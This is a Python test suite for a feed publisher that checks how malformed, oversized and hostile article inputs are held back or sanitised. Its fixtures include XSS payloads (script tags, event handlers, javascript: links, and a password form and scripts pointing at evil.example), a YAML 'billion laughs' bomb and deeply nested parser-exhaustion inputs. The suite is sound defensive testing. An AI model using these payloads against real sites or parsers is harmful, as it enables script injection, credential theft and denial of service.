"""Bad input, each kind from end to end: the good articles beside it are published unharmed, the bad one is
held back (or published without what was bad) with a message that says where, why and what to do."""

from __future__ import annotations

import io
import json
import os
import random
import re
import shutil
import struct
import time
import zlib
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from itertools import pairwise
from pathlib import Path
from typing import Any

import feedparser
import html5lib
import pytest
from lxml import etree
from lxml import html as lxml_html

from feedpub import cli
from feedpub.config import SourceConfig
from feedpub.errors import StoreCorruptError
from feedpub.reports import Held, Report
from tests import isolation
from tests.articles import BODY, CONCERT, markdown
from tests.conftest import NOW, Newsroom

GOOD = {
    "good/bridge.md": markdown("Bridge to be repaired", author="Ada Marsh", section="Harbour"),
    "good/concert.md": CONCERT,
    "good/market.txt": "Market moves to the square\n\n2025-09-02\n\nThe weekly market moves to the square in May.\n",
}
TITLES = ["Bridge to be repaired", "Market moves to the square"]
SECONDS = 5.0
"""No input may hold up a refresh for longer."""
ARTICLE = {
    "@context": "https://schema.org",
    "@type": "NewsArticle",
    "headline": "Large",
    "datePublished": "2025-09-01",
    "articleBody": BODY,
}


@pytest.fixture
def news(newsroom: Newsroom, monkeypatch: pytest.MonkeyPatch) -> Newsroom:
    """A newsroom with good articles in three kinds."""
    # What a test writes is whole at once: nothing need be waited for.
    monkeypatch.setattr("feedpub.sources.files._SETTLE_NS", 0)
    for name, content in GOOD.items():
        newsroom.write(name, content)
    return newsroom


@pytest.fixture(scope="module")
def control(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """What the good articles give by themselves."""
    from feedpub.config import Config, Publish, Site

    root = tmp_path_factory.mktemp("control")
    config = Config(
        root=root,
        site=Site(title="Test News", url="https://news.example/"),
        sources=(SourceConfig(name="articles", path=root / "articles"),),
        publish=Publish(output=root / "feeds"),
        state=root / ".feedpub",
    )
    alone = Newsroom(root, config)
    for name, content in GOOD.items():
        alone.write(name, content)
    alone.publish()
    return alone.files()


def entries(newsroom: Newsroom, path: str = "feed.xml") -> dict[str, Any]:
    """The items of a feed by title, as feedparser reads them; it must be flawless XML."""
    content = newsroom.read(path)
    etree.fromstring(content, etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False))
    parsed = feedparser.parse(content)
    assert parsed.bozo == 0
    return {entry.title: entry for entry in parsed.entries}


def unharmed(newsroom: Newsroom, control: dict[str, bytes]) -> None:
    """The good articles' pages and records are the same bytes as without the bad one, and so are their items."""
    files = newsroom.files()
    own = [path for path in control if path.endswith((".html", ".jsonld")) and "/" in path]
    assert len(own) >= 5
    for path in own:
        assert files[path] == control[path], path
    found = entries(newsroom)
    for entry in feedparser.parse(control["feed.xml"]).entries:
        assert found[entry.title] == entry
    graph = {node["@id"]: node for node in json.loads(files["feed.jsonld"])["@graph"]}
    for node in json.loads(control["feed.jsonld"])["@graph"]:
        if node["@type"] != "DataFeed":
            assert graph[node["@id"]] == node


def only_held(report: Report) -> Held:
    assert not report.failed
    (held,) = report.held
    for problem in held.problems:
        assert problem.place == held.place
        assert problem.rule
        assert problem.message.endswith(".") or ": " in problem.message
        assert problem.remedy
    return held


def timed_publish(newsroom: Newsroom, **options: Any) -> Report:
    begin = time.process_time()  # not the clock on the wall: other programs may be at work
    report = newsroom.publish(**options)
    assert time.process_time() - begin < SECONDS
    return report


def page(*, head: str = "", body: str = f"<p>{BODY}</p>", date: str = "2025-09-01T10:00:00Z") -> str:
    stated = f'<meta property="article:published_time" content="{date}">' if date else ""
    return (
        f'<!doctype html><html lang="en"><head><title>Page</title>{stated}{head}</head>'
        f"<body><article>{body}</article></body></html>"
    )


def script(content: str) -> str:
    return f'<script type="application/ld+json">{content}</script>'


def aliases() -> str:
    """The "billion laughs" of YAML: nine lines that mean 9⁹ words."""
    names = "abcdefghi"
    lines = ["a: &a [x,x,x,x,x,x,x,x,x]"]
    lines += [f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]" for a, b in pairwise(names)]
    return "---\ntitle: Bomb\n" + "\n".join(lines) + f"\n---\n\n{BODY}\n"


# -- what is held back: name, content, the rule, the line (None: the whole file), words of the message and the remedy

DAMAGED = (
    "Erste Zeile.\nZweite Zeile mit Gr\u00f6\u00dfe und \u00c4rger, \u00f6ffentlich.\n" * 3
).encode() + (b"Dritte: sch\xc3n, und Schluss, \xc3\xb6ffentlich.\n")
HELD = [
    ("empty.txt", b"", "empty", 1, "no text", "delete it"),
    ("empty.md", b"", "empty", 1, "no text", "delete it"),
    ("empty.html", b"", "empty", 1, "no text", "delete it"),
    ("empty.json", b"", "empty", 1, "no text", "delete it"),
    ("blank.txt", b" \r\n\t\n", "empty", 1, "no text", "delete it"),
    ("photo.txt", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20, "binary", 1, "PNG picture", "plain text"),
    ("program.md", b"\x7fELF\x02\x01\x01" + bytes(500), "binary", 1, "program", "plain text"),
    ("noise.txt", random.Random(7).randbytes(50_000), "binary", None, "no text", ""),
    ("noise.html", random.Random(8).randbytes(50_000), "binary", None, "no text", ""),
    ("noise.json", random.Random(9).randbytes(50_000), "binary", None, "no text", ""),
    ("archive.json", b"PK\x03\x04" + bytes(400), "binary", 1, "ZIP archive", "plain text"),
    ("damaged.txt", DAMAGED, "encoding", 7, "not valid UTF-8", "save it as UTF-8"),
    ("damaged.md", DAMAGED, "encoding", 7, "not valid UTF-8", "save it as UTF-8"),
    ("yaml-quote.md", '---\ntitle: "Open\ndate: 2025-09-01\n---\n\nText.\n', "front-matter", None, "front matter", "quotes"),
    ("yaml-colon.md", "---\ntitle: One: two\n---\n\nText.\n", "front-matter", 2, "mapping values", "colon into quotes"),
    ("yaml-tab.md", "---\ntitle: x\nauthor:\n\tname: y\n---\n\nText.\n", "front-matter", 4, "token", "spaces"),
    ("yaml-open.md", "---\ntitle: Never closed\n\nText.\n", "front-matter", 1, "never closed", "same marks"),
    ("yaml-twice.md", "---\ntitle: x\ntitle: y\n---\n\nText.\n", "front-matter", 3, "twice", ""),
    ("toml.md", '+++\ntitle = "x"\ndate = \n+++\n\nText.\n', "front-matter", 3, "front matter", ""),
    ("toml-open.md", '+++\ntitle = "x"\n\nText.\n', "front-matter", 1, "never closed", "same marks"),
    ("date.md", markdown("Soon", date="the day after tomorrow"), "date-unreadable", 3, "the day after tomorrow", "2025-09-02"),
    ("date.txt", f"Title: Soon\nDate: next Tuesdayish\n\n{BODY}\n", "date-unreadable", 2, "next Tuesdayish", "2025-09-02"),
    ("date.html", page(date="soonish"), "date-unreadable", None, "soonish", "2025-09-02"),
    ("date.json", json.dumps({**ARTICLE, "datePublished": "soonish"}), "date-unreadable", None, "soonish", "2025-09-02"),
    ("day.md", markdown("Never", date="2025-02-30"), "date-unreadable", 3, "2025-02-30", "must exist"),
    ("year.md", markdown("Far", date="20255-09-02"), "date-unreadable", 3, "20255-09-02", "4 digits"),
    ("year.txt", f"date 20255-09-02\n\n{BODY}\n", "date-unreadable", 1, "20255-09-02", "4 digits"),
    ("year.html", page(date="20255-09-02T10:00:00Z"), "date-unreadable", None, "20255-09-02", "2025-09-02"),
    ("year.json", json.dumps({**ARTICLE, "datePublished": "20255-09-02"}), "date-unreadable", None, "20255-09-02", "2025-09-02"),
    ("truncated.json", '{"headline": "Cut",\n"articleBody": "Cut o', "json-broken", 2, "not JSON", ""),
    ("deep.json", "[" * 200_000 + "]" * 200_000, "json-broken", 1, "depth", ""),
    ("deeper.json", '{"a":' * 300 + "1" + "}" * 300, "json-broken", None, "nested", "flatter"),
    ("bomb.md", aliases(), "front-matter", None, "nested too deep or repeats itself", ""),
    ("cycle.md", "---\ntitle: &a [*a]\n---\n\nText.\n", "front-matter", None, "front matter", ""),
    ("deep.md", '{"title": ' + "[" * 100_000, "front-matter", 1, "nested", ""),
    ("deep-toml.md", "+++\na = " + "[" * 50_000 + "\n+++\n\nText.\n", "front-matter", None, "nested", ""),
    ("long-front.md", markdown("T" * 1_000_000), "front-matter", 1, "200,000 characters", ""),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "content", "rule", "line", "says", "remedy"), HELD, ids=[case[0] for case in HELD]
)
def test_what_cannot_be_read_is_held_back_and_harms_nothing(
    news: Newsroom, control: dict[str, bytes], *, name: str, content: str | bytes, rule: str, line: int | None,
    says: str, remedy: str,
) -> None:  # fmt: skip
    news.write(f"bad/{name}", content)
    report = timed_publish(news)
    held = only_held(report)
    assert held.place == f"bad/{name}"
    (problem,) = (found for found in held.problems if found.rule == rule)
    assert line is None or problem.line == line
    assert says in problem.message
    assert remedy in (problem.remedy or "")
    unharmed(news, control)
    assert list(entries(news)) == [*reversed(TITLES)]


def test_all_of_them_at_once_are_told_by_the_command_line(news: Newsroom, control: dict[str, bytes]) -> None:
    news.publish()
    for name, content, *_ in HELD:
        news.write(f"bad/{name}", content)
    config = configured(news)
    code, stdout, _ = run("publish", "--config", config)
    assert code == 0
    assert f"{len(HELD)} held back" in stdout
    assert "Held back:" in stdout
    unharmed(news, control)
    assert run("publish", "--config", config, "--strict")[0] == 1
    code, stdout, _ = run("quarantine", "--config", config)
    assert code == 0
    paragraphs = stdout.split("articles: ")
    for name, _, rule, line, says, remedy in HELD:
        (told,) = (text for text in paragraphs if text.startswith(f"bad/{name}"))
        assert f"[{rule}]" in told
        assert line is None or f"line {line}: " in told
        assert says in told
        assert "→ " in told
        assert remedy in told


def configured(newsroom: Newsroom, more: str = "") -> str:
    """The newsroom's configuration as a file, for the command line; returns its path."""
    path = newsroom.root / "feedpub.toml"
    path.write_text(
        f'[site]\ntitle = "Test News"\nurl = "https://news.example/"\n\n'
        f'[sources.articles]\npath = "articles"\n\n[publish]\noutput = "feeds"\n{more}'
    )
    return str(path)


def run(*arguments: str) -> tuple[int, str, str]:
    stdout, stderr = io.StringIO(), io.StringIO()
    return cli.run(arguments, stdout, stderr), stdout.getvalue(), stderr.getvalue()


# -- size


@pytest.mark.parametrize(
    "name", ["sparse.txt", "text.txt", "sparse.html", "text.md", "text.json", "sparse.jsonl"]
)
def test_a_file_of_100_mb_is_refused_unread(news: Newsroom, control: dict[str, bytes], name: str) -> None:
    news.publish()
    path = news.write(name, b"")
    with path.open("r+b") as file:
        if name.startswith("sparse"):
            file.truncate(100_000_000)
        else:
            block = ((BODY + "\n\n") * 6000).encode()
            while file.tell() < 100_000_000:
                file.write(block)

    def publish() -> list[Any]:
        before = isolation.peak_memory()
        begin = time.perf_counter()
        report = news.publish(now=NOW + timedelta(hours=1))
        problems = [[p.place, p.rule, p.line, p.message, p.remedy] for p in only_held(report).problems]
        return [problems, time.perf_counter() - begin, isolation.peak_memory() - before]

    problems, seconds, grown = isolation.in_child(publish)
    lines = name.endswith(".jsonl")
    ((place, rule, line, message, remedy),) = problems
    assert (place, rule) == (f"{name}#L1" if lines else name, "too-large")
    assert line == (1 if lines else None)
    assert "the limit is 10,000,000 bytes" in message
    assert "max_size" in remedy
    assert seconds < (3 if lines else 1)  # JSON lines are read through, line by line
    assert grown < (40_000_000 if lines else 15_000_000)
    unharmed(news, control)


def test_the_limit_counts_to_the_byte(news: Newsroom) -> None:
    source = replace(news.config.sources[0], max_bytes=100_000)
    news.configure(sources=(source,))
    news.write("long.txt", "x" * 100_001)
    assert only_held(news.publish()).problems[0].rule == "too-large"
    news.write("long.txt", BODY.ljust(100_000, "x"))
    assert news.publish(now=NOW + timedelta(hours=1)).held == ()


# -- dates


def test_no_date_is_published_as_none_or_held_back_as_the_policy_says(
    news: Newsroom, control: dict[str, bytes]
) -> None:
    undated = {
        "undated.md": markdown("Undated in Markdown", date=None),
        "undated.txt": f"Undated in plain text\n\n{BODY}\n",
        "undated.html": page(date=""),
        "undated.json": json.dumps({k: v for k, v in ARTICLE.items() if k != "datePublished"}),
    }
    for name, content in undated.items():
        news.write(name, content)
    assert news.publish().held == ()
    unharmed(news, control)
    found = {title: entry for title, entry in entries(news).items() if title not in TITLES}
    assert len(found) == 4
    graph = {node["@id"]: node for node in json.loads(news.read("feed.jsonld"))["@graph"]}
    for entry in found.values():
        assert "published" not in entry
        assert entry.updated == "2025-09-03T08:00:00Z"  # when it came in, and no statement of its own
        assert not [key for key in graph[entry.id] if key.startswith("date")]
        path = entry.link.removeprefix("https://news.example/")
        assert path.startswith("articles/undated/")
        assert b"article:published_time" not in news.read(path)
        assert b"<time" not in news.read(path).partition(b"</header>")[0]

    other = Newsroom(news.root, replace(news.config, state=news.root / "other-state"))
    other.configure(publish=replace(news.config.publish, output=news.root / "other", undated="quarantine"))
    report = other.publish()
    assert sorted(held.place for held in report.held) == sorted(undated)
    for held in report.held:
        (problem,) = held.problems
        assert (problem.rule, problem.place) == ("undated", held.place)
        assert "publish.undated" in problem.message
        assert "Add its date" in (problem.remedy or "")
    unharmed(other, control)


# -- what breaks formats

HOSTILE_TITLE = "Fish & chips ]]> </script><script>alert(1)</script> <!-- --!>"
HOSTILE_TEXT = (
    "Prices rose ]]> by a third, </script><script>alert(2)</script> said the <!-- owner & his wife."
)


def hostile(kind: str) -> str:
    if kind == "txt":
        return f"Title: {HOSTILE_TITLE}\nDate: 2025-09-01\n\n{HOSTILE_TEXT}\n\n{BODY}\n"
    if kind == "md":
        text = HOSTILE_TEXT.replace("<", "\\<")
        return f"---\ntitle: '{HOSTILE_TITLE}'\ndate: 2025-09-01\n---\n\n{text}\n\n{BODY}\n"
    if kind == "json":
        return json.dumps({**ARTICLE, "headline": HOSTILE_TITLE, "articleBody": f"{HOSTILE_TEXT}\n\n{BODY}"})
    title, text = (
        value.replace("&", "&amp;").replace("<", "&lt;") for value in (HOSTILE_TITLE, HOSTILE_TEXT)
    )
    return page(head=f'<meta property="og:title" content="{title}">', body=f"<h1>{title}</h1><p>{text}</p><p>{BODY}</p>")  # fmt: skip


@pytest.mark.parametrize("kind", ["txt", "md", "json", "html"])
def test_marks_that_end_cdata_and_scripts_come_through_as_text(
    news: Newsroom, control: dict[str, bytes], kind: str
) -> None:
    news.write(f"hostile.{kind}", hostile(kind))
    assert news.publish().held == ()
    unharmed(news, control)
    (entry,) = (entry for title, entry in entries(news).items() if title not in TITLES)
    # feedparser takes titles for HTML where they look like it, so the bytes are asked as well.
    item = next(
        item for item in etree.fromstring(news.read("feed.xml")).iter("item") if item.findtext("guid") == entry.id
    )  # fmt: skip
    assert item.findtext("title") == HOSTILE_TITLE
    content = item.findtext("description")
    assert content is not None
    assert HOSTILE_TEXT in "".join(html5lib.parse(content, namespaceHTMLElements=False).itertext())
    assert not html5lib.parse(content, namespaceHTMLElements=False).findall(".//script")
    path = entry.link.removeprefix("https://news.example/")
    record = json.loads(news.read(path.replace(".html", ".jsonld")))["@graph"][0]
    assert record["headline"] == HOSTILE_TITLE
    assert HOSTILE_TEXT in record["articleBody"]
    feed = {node["@id"]: node for node in json.loads(news.read("feed.jsonld"))["@graph"]}
    assert feed[entry.id]["headline"] == HOSTILE_TITLE
    for root in trees(news.read(path)):
        (embedded,) = root.iter("script")
        assert embedded.get("type") == "application/ld+json"
        assert json.loads(embedded.text)["@graph"][0] == record
        assert ["".join(heading.itertext()) for heading in root.iter("h1")] == [HOSTILE_TITLE]
        assert HOSTILE_TEXT in "".join(root.find(".//main").itertext())
    for root in trees(news.read("index.html")):
        assert list(root.iter("script")) == []
        assert HOSTILE_TITLE in " ".join("".join(root.find(".//main").itertext()).split())


def trees(content: bytes) -> Iterator[Any]:
    """A page as two HTML parsers read it."""
    yield lxml_html.document_fromstring(content.decode())
    yield html5lib.parse(content.decode(), treebuilder="lxml", namespaceHTMLElements=False).getroot()


@pytest.mark.parametrize("kind", ["txt", "md", "json", "html"])
def test_control_characters_are_left_out_with_advice(
    news: Newsroom, control: dict[str, bytes], kind: str
) -> None:
    bad = "Ti\x01de \x1b[31mrises\x0c\x7f\ufffe"
    content = {
        "txt": f"Title: {bad}\nDate: 2025-09-01\n\nA \x00 b\x08ell rang.\x1f {BODY}\n".replace("\x00", "\x02"),
        "md": f"---\ntitle: {bad}\ndate: 2025-09-01\n---\n\nA b\x08ell rang. {BODY}\n".replace("\x0c", ""),
        "json": json.dumps({**ARTICLE, "headline": bad, "articleBody": f"A b\x08ell rang.\x00 {BODY}"}),
        "html": page(head=f'<meta property="og:title" content="{bad}">', body=f"<p>A b\x08ell rang. {BODY}</p>"),
    }[kind]  # fmt: skip
    news.write(f"control.{kind}", content)
    report = news.publish()
    assert report.held == ()
    unharmed(news, control)
    (entry,) = (entry for title, entry in entries(news).items() if title not in TITLES)
    assert entry.title.startswith("Tide [31mrises")
    assert "A bell rang." in entry.summary
    for path, published in news.files().items():
        if path.endswith((".xml", ".html", ".jsonld")):
            assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe]|\\u00[01]", published.decode()), path  # fmt: skip
    if kind != "json":  # there they are escaped: valid JSON, merely without a use
        (advice,) = (found for found in report.advice if found.rule == "control-characters")
        assert (advice.place, advice.severity) == (f"control.{kind}", "advice")
        assert advice.line is not None
        assert "U+00" in advice.message


ATTACKS = """
<p onclick="steal()">One paragraph that stays, long enough to be taken for the article's text by anyone.</p>
<script>steal()</script><script src="https://evil.example/steal.js"></script>
<img src="https://pictures.example/a.jpg" onerror="steal()" alt="A">
<img src=x onerror=steal()><svg onload="steal()"><script>steal()</script></svg>
<a href="javascript:steal()">one</a> <a href=" java&#10;script:steal()">two</a> <a href="JAVASCRIPT:steal()">three</a>
<a href="vbscript:steal()">four</a> <a href="data:text/html,<script>steal()</script>">five</a>
<iframe src="https://evil.example/steal"></iframe><object data="https://evil.example/steal"></object>
<embed src="https://evil.example/steal"><form action="https://evil.example/steal"><input name="password"></form>
<style>body{background:url(https://evil.example/steal)}</style><link rel="stylesheet" href="https://evil.example/steal">
<meta http-equiv="refresh" content="0;url=https://evil.example/steal"><base href="https://evil.example/steal/">
<p style="background:url(https://evil.example/steal)">A second paragraph that stays as well, on the same matter.</p>
<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=steal()>"></p></noscript>
<template><script>steal()</script></template><video src=x onerror="steal()"></video><details ontoggle="steal()" open>
<summary>Sum</summary></details><button formaction="javascript:steal()">Go</button>
"""
EVIL_RECORD = {
    **ARTICLE,
    "headline": "An evil record",
    "url": "javascript:steal()",
    "image": ["javascript:steal()", "data:text/html,steal()"],
    "author": {"@type": "Person", "name": "Ada Marsh", "url": "javascript:steal()"},
    "license": "javascript:steal()",
    "isBasedOn": "javascript:steal()",
    "sameAs": ["vbscript:steal()"],
    "about": {
        "@type": "Event",
        "name": "Fair",
        "startDate": "2026-01-01",
        "url": "javascript:steal()",
        "location": {"@type": "VirtualLocation", "url": "javascript:steal()"},
        "offers": {"@type": "Offer", "url": "javascript:steal()", "price": "1", "priceCurrency": "EUR"},
    },
}


@pytest.mark.parametrize("kind", ["md", "html", "json", "fields"])
def test_nothing_that_runs_reaches_any_output(news: Newsroom, control: dict[str, bytes], kind: str) -> None:
    if kind == "md":
        news.write("evil.md", markdown("Evil", ATTACKS, author="'Ada <img src=x onerror=steal()>'"))
    elif kind == "html":
        news.write("evil.html", page(body=ATTACKS, head=script(json.dumps(EVIL_RECORD))))
    elif kind == "json":
        news.write("evil.json", json.dumps({**EVIL_RECORD, "articleBody": f"{BODY}\n\n{BODY}"}))
    else:
        source = SourceConfig(
            name="cms", path=news.root / "cms", fields={"headline": "t", "body": "b", "published": "d"}
        )
        (news.root / "cms").mkdir()
        item = {"id": 1, "t": "Evil", "b": ATTACKS, "d": "2025-09-01"}
        (news.root / "cms" / "posts.json").write_text(json.dumps([item]))
        news.configure(sources=(*news.config.sources, source))
    report = timed_publish(news)
    assert report.held == ()
    unharmed(news, control)
    assert report.articles == len(TITLES) + 1
    for path, content in news.files().items():
        if path.endswith(".html"):
            for root in trees(content):
                harmless(root, path)
        elif path.endswith(".xml"):
            for encoded in etree.fromstring(content).iter("{*}encoded", "description"):
                if encoded.text:
                    harmless(html5lib.parse(encoded.text, treebuilder="lxml", namespaceHTMLElements=False).getroot(), path, records=0)  # fmt: skip
        if path.endswith((".html", ".xml", ".jsonld")):
            # Names are text, whatever they say; a licence that is no address is taken for its name.
            text = re.sub(rb'"name": ?"javascript:steal\(\)"', b"", content)
            assert b"steal" not in text.replace(b"img src=x onerror=steal()", b""), path


def harmless(root: Any, path: str, *, records: int | None = None) -> None:
    """Nothing in a page runs, loads or leads where it should not, as its parser sees it."""
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in (
            "iframe", "object", "embed", "form", "input", "button", "base", "template", "video", "audio", "math",
        ), path  # fmt: skip
        if element.tag == "script":
            assert records is None, path
            assert element.get("type") == "application/ld+json", path
        if element.tag == "meta" and element.get("http-equiv"):
            assert element.get("http-equiv") == "Content-Security-Policy", path
        for name, value in element.attrib.items():
            assert not str(name).lower().startswith("on"), path
            if name in ("href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href"):
                scheme = re.sub(r"[\x00-\x20]", "", value).partition(":")[0].lower()
                assert scheme not in ("javascript", "vbscript"), path
                assert scheme != "data" or element.get("rel") == "icon", path


def test_broken_json_ld_beside_good_hides_nothing(news: Newsroom, control: dict[str, bytes]) -> None:
    good = script(json.dumps({**ARTICLE, "headline": "Kept", "author": {"@type": "Person", "name": "Ada"}}))
    head = "\n" + script('\n{"@type": "NewsArticle",\n "headline": oops}') + good + script("{")
    news.write("mixed.html", page(head=head, date=""))
    news.write("broken.html", page(head=script('{"@type": "NewsArticle", "headline": "Cut')))
    report = news.publish()
    assert report.held == ()
    unharmed(news, control)
    found = entries(news)
    assert found["Kept"].author == "Ada"
    assert found["Kept"].published == "Mon, 01 Sep 2025 00:00:00 +0000"
    assert "Page" in found, "its title and date stand in the page as well"
    broken = [advice for advice in report.advice if advice.rule == "json-ld-broken"]
    assert [advice.place for advice in broken] == ["broken.html", "mixed.html", "mixed.html"]
    assert broken[1].line == 4
    assert all(advice.remedy for advice in broken)


@pytest.mark.parametrize(
    ("front", "rule"),
    [({"id": "tag:x.example,2025:1"}, "duplicate-id"), ({"canonical_url": "https://x.example/1"}, "duplicate-url")],
)  # fmt: skip
def test_of_two_with_one_id_or_address_the_second_is_held_back(
    news: Newsroom, control: dict[str, bytes], front: dict[str, str], rule: str
) -> None:
    news.write("twin-a.md", markdown("First twin", **front))
    news.write("twin-b.md", markdown("Second twin", "Another text.", **front))
    held = only_held(news.publish())
    (problem,) = held.problems
    assert (held.place, problem.rule) == ("twin-b.md", rule)
    assert next(iter(front.values())) in problem.message
    assert "articles:twin-a.md" in problem.message
    assert set(entries(news)) == {*TITLES, "First twin"}
    unharmed(news, control)


def test_a_broken_line_and_a_twin_in_json_lines_cost_only_themselves(
    news: Newsroom, control: dict[str, bytes]
) -> None:
    rows = [json.dumps({**ARTICLE, "id": n, "headline": f"Row {n}"}) for n in (1, 2, 2, 3)]
    rows.insert(1, '{"id": 9, "headline": oops}')
    news.write("export.jsonl", "\n".join(rows))
    report = news.publish()
    assert [(held.place, held.problems[0].rule, held.problems[0].line) for held in report.held] == [
        ("export.jsonl#2~2", "duplicate-id", 4),
        ("export.jsonl#L2", "json-broken", 2),
    ]
    assert set(entries(news)) == {*TITLES, "Row 1", "Row 2", "Row 3"}
    unharmed(news, control)


# -- the file system


def test_a_loop_of_links_is_walked_once_and_told(news: Newsroom, control: dict[str, bytes]) -> None:
    (news.articles / "good" / "up").symlink_to(news.articles)
    (news.articles / "one").mkdir()
    (news.articles / "two").mkdir()
    (news.articles / "one" / "to-two").symlink_to(news.articles / "two")
    (news.articles / "two" / "to-one").symlink_to(news.articles / "one")
    (news.articles / "self.md").symlink_to("self.md")
    (news.articles / "dangling.md").symlink_to("nowhere.md")
    report = timed_publish(news)
    assert not report.failed
    assert report.articles == len(TITLES)
    assert any("good/up" in notice and "read already" in notice for notice in report.sources[0].notices)
    unharmed(news, control)


@pytest.mark.parametrize("what", ["file", "folder"])
def test_a_file_that_may_not_be_read_is_held_back_until_it_may(
    news: Newsroom, control: dict[str, bytes], what: str
) -> None:
    path = news.write("closed/secret.md", markdown("Now readable"))
    target = path if what == "file" else path.parent
    target.chmod(0)

    def publish() -> list[Any]:
        isolation.obey_permissions()
        report = news.publish()
        notices = [notice for source in report.sources for notice in source.notices]
        return [[[h.place, h.problems[0].rule, h.problems[0].message, h.problems[0].remedy] for h in report.held], notices]  # fmt: skip

    try:
        held, notices = isolation.in_child(publish)
    finally:
        target.chmod(0o755)
    if what == "file":
        ((place, rule, message, remedy),) = held
        assert (place, rule) == ("closed/secret.md", "unreadable")
        assert "Permission denied" in message
        assert "right to read it" in remedy
    else:
        assert held == []
        assert any("closed/" in notice and "Permission denied" in notice for notice in notices)
    unharmed(news, control)
    assert news.publish(now=NOW + timedelta(hours=1)).held == ()
    assert "Now readable" in entries(news)


def many(newsroom: Newsroom, count: int = 60) -> None:
    for number in range(count):
        newsroom.write(f"new/{number}.md", markdown(f"New {number}", f"{BODY} Number {number}."))


def told_and_whole(code: int, stderr: str, *words: str) -> None:
    assert code == 1
    assert stderr.startswith("feedpub: ")
    assert stderr.count("\n") == 1
    for word in words:
        assert word in stderr


@pytest.mark.parametrize("where", ["output", "state", "both"])
def test_a_full_disk_is_told_and_the_next_run_with_room_completes(news: Newsroom, where: str) -> None:
    """A real disk of less than a megabyte, mounted for a child process alone."""
    disk = news.root / "disk"
    disk.mkdir()
    output = "disk/feeds" if where != "state" else "feeds"
    state = "disk/state" if where != "output" else ".feedpub"

    def publish() -> list[Any]:
        isolation.own_mounts()
        isolation.mount_small_disk(str(disk), 800)
        path = news.root / "feedpub.toml"
        path.write_text(
            '[site]\ntitle = "Test News"\nurl = "https://news.example/"\n[sources.articles]\npath = "articles"\n'
            f'[publish]\noutput = "{output}"\n[store]\npath = "{state}"\n'
        )
        there = Newsroom(
            news.root, replace(news.config, publish=replace(news.config.publish, output=news.root / output))
        )
        first = run("publish", "--config", str(path))
        assert first[0] == 0, first
        before = there.files()
        many(news)
        full = run("publish", "--config", str(path))
        after = there.files()
        assert after == before, "what was published before stays whole"
        again = run("publish", "--config", str(path))
        assert again[0] == 1, "there is still no room"
        assert there.files() == before
        isolation.grow_small_disk(str(disk), 20_000)
        last = run("publish", "--config", str(path))
        assert last[0] == 0, last
        assert len(entries(there)) == 50
        assert json.loads(run("status", "--config", str(path), "--json")[1])["articles"] == 62
        assert not list(news.root.rglob("*staging*"))
        return [full[0], full[2]]

    code, stderr = isolation.in_child(publish)
    told_and_whole(code, stderr, str(disk), "room", "run again")


def test_a_limit_on_what_may_be_written_is_told_and_the_next_run_completes(news: Newsroom) -> None:
    """The same without a mount, wherever there are resource limits: no file may outgrow the store by much."""
    config = configured(news)
    assert run("publish", "--config", config)[0] == 0
    before = news.files()
    news.write("long.md", markdown("A long one", "\n\n".join([BODY] * 3000)))
    size = (news.config.state / "store.sqlite3").stat().st_size

    def publish() -> list[Any]:
        isolation.limit_file_size(size + 200_000)
        code, _, stderr = run("publish", "--config", config)
        return [code, stderr]

    code, stderr = isolation.in_child(publish)
    told_and_whole(code, stderr, str(news.root), "run again")
    assert news.files() == before
    assert run("publish", "--config", config)[0] == 0
    assert "A long one" in entries(news)


@pytest.mark.parametrize("how", ["read-only mount", "no permission"])
@pytest.mark.parametrize("folder", ["feeds", ".feedpub"])
def test_a_read_only_folder_is_told_and_the_next_run_completes(news: Newsroom, how: str, folder: str) -> None:
    config = configured(news)
    assert run("publish", "--config", config)[0] == 0
    before = news.files()
    news.write("new.md", markdown("Another one", date="2025-10-01"))
    target = news.root / folder

    def publish() -> list[Any]:
        if how == "no permission":
            for path in (target, *target.rglob("*")):
                path.chmod(0o555 if path.is_dir() else 0o444)
            isolation.obey_permissions()
        else:
            isolation.own_mounts()
            isolation.mount_read_only(str(target))
        code, _, stderr = run("publish", "--config", config)
        return [code, stderr]

    try:
        code, stderr = isolation.in_child(publish)
    finally:
        for path in (target, *target.rglob("*")):
            path.chmod(0o755 if path.is_dir() else 0o644)
    told_and_whole(code, stderr, str(target), "run again")
    assert re.search("Read-only file system|Permission denied|readonly database", stderr)
    assert re.search("mount it for writing|permission", stderr)
    assert news.files() == before
    assert run("publish", "--config", config)[0] == 0
    assert "Another one" in entries(news)


def test_a_full_disk_under_the_ledger_is_told(news: Newsroom, monkeypatch: pytest.MonkeyPatch) -> None:
    """Simulated: of all that is written, the ledger's durability alone cannot be had."""
    config = configured(news)
    assert run("publish", "--config", config)[0] == 0
    before = news.files()
    news.write("new.md", markdown("Another one"))

    def full(_: int) -> None:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patched:
        patched.setattr("feedpub.store.ledger.os.fsync", full)
        code, _, stderr = run("publish", "--config", config)
    told_and_whole(code, stderr, "ledger.ndjson", "No space left", "run again")
    assert news.files() == before
    assert run("publish", "--config", config)[0] == 0
    assert "Another one" in entries(news)


# -- the store


@pytest.mark.parametrize("damage", ["rubbish", "truncated", "page", "empty header", "text"])
def test_a_damaged_store_says_so_and_is_rebuilt_to_the_same_bytes(news: Newsroom, damage: str) -> None:
    config = configured(news)
    many(news, 20)
    news.write("gone.md", markdown("Gone"))
    news.publish()
    (news.articles / "gone.md").unlink()
    news.publish(now=NOW + timedelta(days=1))
    before = news.files()
    store = news.config.state / "store.sqlite3"
    for suffix in ("-wal", "-shm"):
        Path(f"{store}{suffix}").unlink(missing_ok=True)
    content = store.read_bytes()
    store.write_bytes(
        {
            "rubbish": b"rubbish" * 5000,
            "truncated": content[: len(content) // 2],
            "page": content[:8192] + bytes(b ^ 0x5A for b in content[8192:]),
            "empty header": bytes(100) + content[100:],
            "text": b"this is no database\n",
        }[damage]
    )
    code, _, stderr = run("publish", "--config", config)
    told_and_whole(code, stderr, "store.sqlite3", "damaged", "feedpub publish --rebuild")
